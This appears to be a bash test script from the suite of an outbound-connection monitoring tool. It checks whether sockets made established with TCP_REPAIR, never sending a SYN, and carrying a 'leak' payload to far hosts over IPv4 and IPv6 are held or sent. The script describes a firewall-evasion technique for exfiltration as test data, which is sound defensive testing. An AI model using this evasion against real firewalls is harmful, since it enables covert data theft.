# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash source=/dev/null disable=SC2086,SC2016,SC2154,SC2034
# TCP_REPAIR: an established socket that never sent a SYN. See 08-evasion for a user's namespace.
. /snitch/leak/lib/leak.sh

leak_begin
n=0
for pair in "$C4 $F4" "$C6 $F6"; do
	read -r own far <<<"$pair"
	n=$((n + 10))
	held "TCP_REPAIR to $far" $EVIL tcp 80 $EVIL repair $own $((5000 + n)) $far 80 --data leak
	sent "TCP_REPAIR to $far" tcp 80 $EVIL repair $own $((5001 + n)) $far 80 --data leak
done
leak_done
